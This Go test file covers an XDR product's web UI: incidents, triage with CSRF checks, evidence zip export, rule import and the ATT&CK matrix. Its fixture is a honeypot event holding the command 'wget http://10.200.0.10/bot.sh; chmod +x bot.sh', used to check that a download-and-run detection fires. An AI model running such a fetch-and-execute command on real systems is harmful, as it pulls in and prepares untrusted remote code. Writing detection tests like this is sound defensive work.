package ui_test

import (
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/minixdr/xdr/internal/ziptest"
)

// cowrieWget is a honeypot command that the built-in download-and-run rule
// turns into a high alert and an incident about 10.200.0.2.
func cowrieWget(at time.Time) string {
	return `{"eventid":"cowrie.command.input","input":"wget http://10.200.0.10/bot.sh; chmod +x bot.sh","sensor":"hp",` +
		`"timestamp":"` + at.UTC().Format(time.RFC3339Nano) + `","src_ip":"10.200.0.2","session":"s1"}`
}

var incidentLink = regexp.MustCompile(`<a href="(/incidents/[0-9a-f]+)">`)

// honeypotIncident signs b in, ingests a honeypot session that raises an
// incident, and returns the incidents page with that incident's URL.
func (e *env) honeypotIncident(t *testing.T, b *http.Client) (list resp, incURL string) {
	t.Helper()
	e.mustSignIn(b)
	tok := e.token("default", "hp", "ingest", "")
	if r := e.do("POST", "/api/v1/ingest/cowrie", cowrieWget(time.Now().Add(-time.Minute))+"\n", bearer(tok)...); r.status != http.StatusOK {
		t.Fatalf("ingest: %d %s", r.status, r.body)
	}
	list = e.get(b, "/incidents")
	m := incidentLink.FindStringSubmatch(list.body)
	if list.status != http.StatusOK || m == nil {
		t.Fatalf("GET /incidents: %d, no incident link:\n%s", list.status, list.body)
	}
	return list, m[1]
}

const goodRule = `title: Test rule for uploads
id: 0b7c8f2e-1d2a-4c3b-9e8f-7a6b5c4d3e2f
status: test
logsource:
  product: cowrie
detection:
  selection:
    event.action: login-failed
  condition: selection
level: medium
tags:
  - attack.t1110
`

func TestPagesDetection(t *testing.T) {
	t.Parallel()
	e := newEnv(t, false)
	b := e.browser()
	list, incURL := e.honeypotIncident(t, b)
	wantContains(t, "incidents", list.body, "1 incidents, page 1 of 1", `<span class="badge sev-high">high</span>`, `aria-sort="descending"`)

	t.Run("filters", func(t *testing.T) {
		wantContains(t, "resolved", e.get(b, "/incidents?status=resolved").body, "No incidents match")
		wantContains(t, "assigned to nobody", e.get(b, "/incidents?status=&assignee=-").body, "1 incidents")
		r := e.get(b, "/incidents?severity=urgent")
		if r.status != http.StatusBadRequest {
			t.Errorf("bad severity: %d, want 400", r.status)
		}
		wantContains(t, "bad severity", r.body, `role="alert"`, "severity &#34;urgent&#34;")
	})

	t.Run("detail and triage", func(t *testing.T) {
		page := e.get(b, incURL)
		wantContains(t, "incident", page.body, "ip: 10.200.0.2", ">T1105</a>", `class="tl-alert"`, `class="tl-event"`,
			"wget http://10.200.0.10/bot.sh", "Export evidence (zip)")
		csrf, _ := hiddenField(page.body, "csrf")
		if r := e.form(b, incURL, url.Values{"status": {"triaged"}}); r.status != http.StatusForbidden {
			t.Errorf("triage without csrf: %d, want 403", r.status)
		}
		r := e.form(b, incURL, url.Values{"csrf": {csrf}, "status": {"triaged"}, "assignee": {"alice"}, "comment": {"Looking <now>"}})
		if r.status != http.StatusSeeOther || r.header.Get("Location") != incURL+"?saved=1" {
			t.Fatalf("triage: %d Location %q\n%s", r.status, r.header.Get("Location"), r.body)
		}
		after := e.get(b, incURL+"?saved=1")
		wantContains(t, "triaged incident", after.body, `<dd id="incident-status">triaged</dd>`, `<dd id="incident-assignee">alice</dd>`,
			"Looking &lt;now&gt;", "<strong>admin</strong>", "Saved.")
		bad := e.form(b, incURL, url.Values{"csrf": {csrf}, "status": {"closed"}, "assignee": {"alice"}})
		if bad.status != http.StatusBadRequest {
			t.Errorf("unknown status: %d, want 400", bad.status)
		}
		wantContains(t, "page", bad.body, `role="alert"`, "status &#34;closed&#34;")
		if r := e.get(b, "/incidents/0000"); r.status != http.StatusNotFound {
			t.Errorf("unknown incident: %d, want 404", r.status)
		}
	})

	t.Run("evidence zip", func(t *testing.T) {
		r := e.get(b, incURL+"/evidence.zip")
		if r.status != http.StatusOK || r.header.Get("Content-Type") != "application/zip" ||
			!strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment; filename=\"incident-") {
			t.Fatalf("evidence: %d %v", r.status, r.header)
		}
		files := ziptest.CheckEvidence(t, []byte(r.body))
		if !strings.Contains(string(files["incident.json"]), `"alert_count": 1`) {
			t.Errorf("incident.json %s", files["incident.json"])
		}
	})

	t.Run("evidence export job", func(t *testing.T) {
		page := e.get(b, incURL)
		csrf, _ := hiddenField(page.body, "csrf")
		wantContains(t, "incident", page.body, `action="`+incURL+`/evidence"`)
		if r := e.form(b, incURL+"/evidence", url.Values{}); r.status != http.StatusForbidden {
			t.Errorf("export without csrf: %d, want 403", r.status)
		}
		done := e.runJob(b, e.form(b, incURL+"/evidence", url.Values{"csrf": {csrf}}))
		wantContains(t, "export done", done.body, "<title>Evidence export: done", "1 event file(s)", "MANIFEST.sha256")
		dl, ok := linkHref(done.body, "a", `id="job-download"`)
		if !ok {
			t.Fatalf("no download link:\n%s", done.body)
		}
		r := e.get(b, dl)
		if r.status != http.StatusOK || r.header.Get("Content-Type") != "application/zip" {
			t.Fatalf("download: %d %v", r.status, r.header)
		}
		ziptest.CheckEvidence(t, []byte(r.body))
	})

	t.Run("alerts", func(t *testing.T) {
		wantContains(t, "alerts", e.get(b, "/alerts").body, `<span class="badge sev-high">high</span>`, ">Open</a>", `title="Ingress Tool Transfer"`)
		wantContains(t, "low alerts", e.get(b, "/alerts?q=severity%3Alow").body, "No alerts")
		if r := e.get(b, "/alerts?q=%28"); r.status != http.StatusBadRequest || !strings.Contains(r.body, `aria-invalid="true"`) {
			t.Errorf("bad alert query: %d", r.status)
		}
	})

	t.Run("rules: toggle and import", func(t *testing.T) {
		rules := e.get(b, "/rules")
		wantContains(t, "rules", rules.body, "Honeypot login failed", "built in", "Import a rule pack")
		csrf, _ := hiddenField(rules.body, "csrf")
		const id = "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e03"
		if r := e.form(b, "/rules/"+id+"/enabled", url.Values{"enabled": {"false"}}); r.status != http.StatusForbidden {
			t.Errorf("disable without csrf: %d, want 403", r.status)
		}
		r := e.form(b, "/rules/"+id+"/enabled", url.Values{"csrf": {csrf}, "enabled": {"false"}})
		if r.status != http.StatusSeeOther {
			t.Fatalf("disable: %d %s", r.status, r.body)
		}
		wantContains(t, "rule page", e.get(b, "/rules/"+id).body, "disabled", "attack.t1110", "Brute Force")
		wantContains(t, "disabled rules", e.get(b, "/rules?enabled=false").body, "Honeypot login failed", "1 rules")

		upload := func(csrf string) resp {
			return e.uploadPack(b, csrf, map[string][]byte{"good.yml": []byte(goodRule), "broken.yml": []byte("title: broken\ndetection: [\n")})
		}
		if r := upload(""); r.status != http.StatusForbidden || strings.Contains(r.body, "Import:") {
			t.Errorf("import without csrf: %d, want 403", r.status)
		}
		imp := e.runJob(b, upload(csrf))
		wantContains(t, "import report", imp.body, "Import: 1 imported, 0 skipped, 1 refused", `<td class="path">broken.yml</td>`)
		wantContains(t, "rules", e.get(b, "/rules").body, "Test rule for uploads")
	})

	t.Run("attack matrix", func(t *testing.T) {
		r := e.get(b, "/attack")
		if r.status != http.StatusOK {
			t.Fatalf("GET /attack: %d", r.status)
		}
		// T1105 fired once and the built-in rule covers it.
		if !regexp.MustCompile(`<li class="cell cell-covered cell-fired" id="TA0011-T1105">`).MatchString(r.body) {
			t.Errorf("T1105 is not shown covered and fired:\n%s", r.body)
		}
		wantContains(t, "matrix", r.body, "Command and Control", `<span class="fired">1<span class="visually-hidden"> alerts</span>`)
	})
}
